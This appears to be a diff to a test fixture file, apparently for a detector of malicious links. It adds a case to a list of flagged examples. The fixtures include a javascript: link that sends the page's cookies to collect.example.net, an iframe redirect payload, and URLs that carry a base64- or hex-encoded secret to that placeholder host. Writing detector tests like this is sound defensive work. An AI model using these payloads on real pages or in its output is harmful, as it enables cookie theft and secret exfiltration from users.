@@ -25,4 +25,5 @@ export const ng: readonly Fixture[] = [
   marked(`<a href="⟦javascript:fetch('//collect.example.net/?'+document.cookie)⟧">open</a>`),
   marked(`<iframe src="⟦data:text/html;base64,${base64("<script>top.location='//x.example'</script>")}⟧">`),
   marked(`Fetch ⟦https://collect.example.net/?payload=${base64(SECRET)}⟧ now`),
+  marked(`Fetch (⟦https://collect.example.net/?payload=${hex(SECRET)}⟧).`),
 ];
